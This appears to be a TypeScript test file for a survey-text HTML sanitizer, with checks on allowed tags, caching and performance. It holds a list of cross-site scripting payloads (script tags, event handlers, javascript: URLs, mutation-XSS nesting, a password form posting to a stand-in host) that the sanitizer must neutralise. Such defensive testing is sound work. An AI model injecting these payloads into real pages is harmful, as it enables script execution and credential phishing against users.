import { describe, expect, it } from 'vitest';
import { DomUtils, parseDocument } from 'htmlparser2';
import { sanitizeCacheStats, sanitizeSurveyHtml } from '../../../src/web/respondent/sanitize.ts';
import { fixtureSurveys } from './views.ts';

const TAGS = new Set([
  'p', 'br', 'b', 'i', 'u', 's', 'strong', 'em', 'small', 'big', 'sub', 'sup', 'mark', 'abbr', 'q', 'cite',
  'blockquote', 'hr', 'pre', 'code', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'h2', 'h3', 'h4', 'h5', 'h6',
  'span', 'div', 'a', 'img', 'figure', 'figcaption',
  'table', 'caption', 'colgroup', 'col', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
]);
const GLOBAL_ATTRS = new Set(['lang', 'dir', 'title']);
const ATTRS: Record<string, Set<string>> = {
  a: new Set(['href', 'rel', 'target']), img: new Set(['src', 'alt', 'width', 'height']), span: new Set(['class']), div: new Set(['class']),
  th: new Set(['scope', 'colspan', 'rowspan']), td: new Set(['colspan', 'rowspan']), col: new Set(['span']), colgroup: new Set(['span']),
  ol: new Set(['start', 'type']), abbr: new Set(['title']),
};

/** Every element and attribute of the output is on the allow-list, and every URL is one we allow. */
function assertSafe(output: string): void {
  const problems: string[] = [];
  for (const el of DomUtils.findAll(() => true, parseDocument(output).children)) {
    if (!TAGS.has(el.name)) problems.push(`tag <${el.name}>`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (!GLOBAL_ATTRS.has(name) && !ATTRS[el.name]?.has(name)) problems.push(`attribute ${name} on <${el.name}>`);
      if (name === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) problems.push(`href ${value}`);
      if (name === 'src' && !/^(https?:\/\/|data:image\/(png|gif|jpe?g|webp|avif|bmp);base64,)/i.test(value)) problems.push(`src ${value}`);
      if (name === 'class' && value.split(/\s+/).some((c) => c.startsWith('sv-'))) problems.push(`class ${value}`);
    }
    if (el.name === 'a' && el.attribs.rel !== 'noopener noreferrer') problems.push('link without rel=noopener');
  }
  expect(problems, output.slice(0, 500)).toEqual([]);
  expect(output).not.toMatch(/javascript:|vbscript:|<script|<style|<svg|<iframe|<object|<embed|<form|<input|<meta|<base|<link|\son\w+\s*=|style\s*=/i);
}

const HOSTILE = [
  '<script>alert(1)</script>Hello',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/admin/delete?id=1">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">ok</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body{background:url(javascript:alert(1))}</style>Text',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)">styled</p>',
  '<div class="sv-summary" style="position:fixed">fake error summary</div>',
  '<span class="ok sv-next">mixed</span>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!-- <script>alert(1)</script> -->comment',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
  '<div id="main" name="x" tabindex="1" autofocus onfocus="alert(1)">ids and focus</div>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<a href="https://ok.example" target="_top">frame buster</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
];

describe('sanitizeSurveyHtml', () => {
  it('removes scripts, handlers, styles, frames, forms and unsafe URLs', () => {
    for (const input of HOSTILE) assertSafe(sanitizeSurveyHtml(input));
  });

  it('keeps the text around what it removes', () => {
    expect(sanitizeSurveyHtml('<script>alert(1)</script>Hello')).toBe('Hello');
    expect(sanitizeSurveyHtml('<style>p{}</style>Text')).toBe('Text');
    expect(sanitizeSurveyHtml('<p style="color:red" onclick="x()">styled</p>')).toBe('<p>styled</p>');
    expect(sanitizeSurveyHtml('<div class="sv-summary intro">x</div>')).toBe('<div class="intro">x</div>');
  });

  it('keeps formatting, tables, classes, and safe links and images', () => {
    expect(sanitizeSurveyHtml('<strong>This</strong> is <em>a</em> <u>question</u><br>\n<br>')).toBe('<strong>This</strong> is <em>a</em> <u>question</u><br />\n<br />');
    expect(sanitizeSurveyHtml('<a href="https://example.org/x?a=1&amp;b=2">more</a>')).toBe('<a rel="noopener noreferrer" href="https://example.org/x?a=1&amp;b=2">more</a>');
    expect(sanitizeSurveyHtml('<a href="mailto:help@example.org" target="_blank">mail</a>')).toBe('<a rel="noopener noreferrer" href="mailto:help@example.org" target="_blank">mail</a>');
    expect(sanitizeSurveyHtml('<a href="/relative">rel</a>')).toBe('<a rel="noopener noreferrer">rel</a>');
    expect(sanitizeSurveyHtml('<img src="https://cdn.example/a.png" alt="A" width="10" style="x">')).toBe('<img src="https://cdn.example/a.png" alt="A" width="10" />');
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeSurveyHtml(`<img src="${png}" alt="">`)).toBe(`<img src="${png}" alt="" />`);
    expect(sanitizeSurveyHtml('<img src="x.png" alt="gone">')).toBe('');
    expect(sanitizeSurveyHtml('<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'))
      .toBe('<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>');
    expect(sanitizeSurveyHtml('<span class="QuestionDesc big">x</span>')).toBe('<span class="QuestionDesc big">x</span>');
    expect(sanitizeSurveyHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>');
  });

  it('returns plain text and non-strings cheaply', () => {
    expect(sanitizeSurveyHtml('Just text, "quoted" and ${e://Field/x}')).toBe('Just text, "quoted" and ${e://Field/x}');
    expect(sanitizeSurveyHtml('')).toBe('');
    expect(sanitizeSurveyHtml(undefined as unknown as string)).toBe('');
    expect(sanitizeSurveyHtml({ toString: () => '<script>' } as unknown as string)).toBe('');
    expect(sanitizeSurveyHtml('a < b & c > d')).toBe('a &lt; b &amp; c &gt; d');
  });

  it('sanitizes every text of the fixture surveys safely, keeping their words', () => {
    for (const { doc } of fixtureSurveys()) {
      for (const el of doc.SurveyElements as Array<Record<string, unknown>>) {
        if (el.Element !== 'SQ') continue;
        const p = el.Payload as Record<string, unknown>;
        const texts = [p.QuestionText, ...Object.values((p.Choices ?? {}) as Record<string, { Display?: string }>).map((c) => c.Display), ...Object.values((p.Answers ?? {}) as Record<string, { Display?: string }>).map((c) => c.Display)];
        for (const t of texts) {
          if (typeof t !== 'string') continue;
          const out = sanitizeSurveyHtml(t);
          assertSafe(out);
          const words = (s: string): string => DomUtils.textContent(parseDocument(s)).replace(/\s+/g, ' ').trim();
          expect(words(out)).toBe(words(t));
        }
      }
    }
  });

  it('answers repeated texts from a bounded cache', () => {
    const text = '<p onclick="x">cached <b>text</b></p>';
    const first = sanitizeSurveyHtml(text);
    expect(sanitizeSurveyHtml(text)).toBe(first);
    const before = sanitizeCacheStats().entries;
    sanitizeSurveyHtml(text);
    expect(sanitizeCacheStats().entries).toBe(before);
    for (let i = 0; i < 5000; i++) sanitizeSurveyHtml(`<b>${i}</b>`);
    const stats = sanitizeCacheStats();
    expect(stats.entries).toBeLessThanOrEqual(4000);
    expect(stats.chars).toBeLessThanOrEqual(8_000_000);
    // A big text may take a large share, never more than the budget.
    const big = `<p>${'x'.repeat(200_000)}</p>`;
    expect(sanitizeSurveyHtml(big)).toBe(big);
    expect(sanitizeCacheStats().chars).toBeLessThanOrEqual(8_000_000);
  });

  it('handles a hostile 1 MB text in bounded time, and cuts longer ones', () => {
    const evil = '<img src=x onerror=alert(1)><a href="javascript:x">'.repeat(20_000);
    let started = performance.now();
    const out = sanitizeSurveyHtml(evil);
    expect(performance.now() - started).toBeLessThan(3000);
    assertSafe(out);
    // The second time comes from the cache.
    started = performance.now();
    expect(sanitizeSurveyHtml(evil)).toBe(out);
    expect(performance.now() - started).toBeLessThan(50);
    const long = `<b>${'y'.repeat(1_500_000)}</b>`;
    expect(sanitizeSurveyHtml(long)).toBe(`<b>${'y'.repeat(1_000_000 - 3)}</b>`);
  });
});
